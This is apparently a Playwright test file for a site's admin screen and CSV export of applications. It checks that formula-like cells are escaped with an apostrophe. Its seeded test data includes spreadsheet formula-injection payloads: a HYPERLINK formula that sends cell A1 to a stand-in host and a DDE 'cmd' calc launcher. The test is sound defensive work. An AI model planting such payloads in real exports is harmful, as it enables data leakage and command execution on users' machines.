import { exportPaths, type ApplicationInput, type ApplicationWire } from '@site/contract';
import type { Page } from '@playwright/test';
import ExcelJS from 'exceljs';
import { createReadStream } from 'node:fs';
import { callApi } from '../fixtures/api';
import { startTestSite, type TestSite } from '../fixtures/siteFixture';
import { expect, test } from '../fixtures/test';

// Its own site: an address may send five applications a minute, and these tests send all five.
const sent: readonly (Pick<ApplicationInput, 'name' | 'email' | 'message'> & { grad_year?: number })[] = [
  { name: 'نور الهدى', email: 'noor@family.example', message: 'مرحبا، ابنتي تلعب الغولف.\nسطر ثان' },
  {
    name: 'Zoë 🏌️‍♀️ O’Hara',
    email: 'zoe@family.example',
    message: 'She says "hello", twice; 👨‍👩‍👧',
    grad_year: 2027,
  },
  {
    name: '=HYPERLINK("https://x.example?"&A1,"click")',
    email: 'formula@family.example',
    message: '=1+1\r\n+2\r\n\r\nthird line',
  },
  { name: '@SUM(A1:A9)', email: '+plus@family.example', message: "-2+3+cmd|' /C calc'!A0" },
  { name: '山田 太郎', email: 'taro@family.example', message: 'first, second\tthird\n\n\nlast' },
];

let site: TestSite;
test.describe.configure({ mode: 'serial' });
test.beforeAll(async () => {
  test.setTimeout(180_000);
  site = await startTestSite('leads', { seed: 'none' });
  for (const application of sent) await callApi({ origin: site.origin }, 'POST /applications', application);
});
test.afterAll(() => site.stop());

async function readApplications(): Promise<ApplicationWire[]> {
  return (await (await callApi(site, 'GET /applications')).json()) as ApplicationWire[];
}

async function openScreen(page: Page): Promise<void> {
  await page.addInitScript((token) => localStorage.setItem('token', token), site.token);
  await page.goto(`${site.origin}/admin/applications`);
  await expect(page.getByRole('rowheader')).toHaveCount(sent.length);
}

async function exportCsv(page: Page) {
  const [download] = await Promise.all([
    // Playwright reports it for the file's own tab or for this one, whichever it knows at that moment.
    page.context().waitForEvent('download'),
    page.getByRole('button', { name: 'Export CSV' }).click(),
  ]);
  return download;
}

/** The rows as a spreadsheet shows them. */
async function readRows(file: string): Promise<string[][]> {
  // Every cell as text: exceljs would turn numeric text into a number.
  const sheet = await new ExcelJS.Workbook().csv.read(createReadStream(file), {
    map: (text: string) => text,
  });
  const rows: string[][] = [];
  // Cells count from 1.
  sheet.eachRow((row) => rows.push((row.values as string[]).slice(1)));
  return rows;
}

/** docs/product.md#csv-content: text that a spreadsheet would take for a formula starts with an apostrophe. */
const asText = (text: string): string => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

test('an admin reads a message as it was typed', async ({ page }) => {
  await openScreen(page);
  const { name, message } = sent[4]!;
  const row = page.getByRole('row', { name: new RegExp(name) });
  await expect(row.getByRole('cell', { name: '—' })).toBeVisible();
  await row.getByRole('button', { name: `Read message from ${name}` }).click();

  const dialog = page.getByRole('dialog', { name: `Message from ${name}` });
  await expect(dialog).toBeVisible();
  // The list has only its beginning: the rest is fetched.
  await expect.poll(() => dialog.getByRole('definition').last().innerText()).toBe(message);
  await page.keyboard.press('Escape');
  await expect(row.getByRole('button', { name: `Read message from ${name}` })).toBeFocused();
});

test('the exported file opens in a spreadsheet with every character intact', async ({ page, request }) => {
  await openScreen(page);
  const download = await exportCsv(page);

  expect(download.url()).toBe(site.origin + exportPaths.applications);
  expect(download.suggestedFilename()).toMatch(/^applications-\d{4}-\d\d-\d\d\.csv$/);
  const [head, ...rows] = await readRows(await download.path());
  const applications = await readApplications();
  expect(head).toEqual(['name', 'email', 'grad_year', 'message', 'created_at']);
  expect(rows).toEqual(
    applications.map(({ name, email, grad_year, message, created_at }) =>
      [name, email, String(grad_year ?? ''), message, created_at].map(asText),
    ),
  );
  expect(applications.map(({ name }) => name)).toEqual(sent.map(({ name }) => name).toReversed());
  expect((await request.get(site.origin + exportPaths.applications)).status()).toBe(401);
});

test('the export works on a screen that has been open for an hour', async ({ page, context }) => {
  await page.clock.install();
  await openScreen(page);
  await context.clearCookies();
  await page.clock.fastForward('01:00:00');
  const download = await exportCsv(page);

  expect(download.url()).toBe(site.origin + exportPaths.applications);
  expect(await readRows(await download.path())).toHaveLength(sent.length + 1);
});
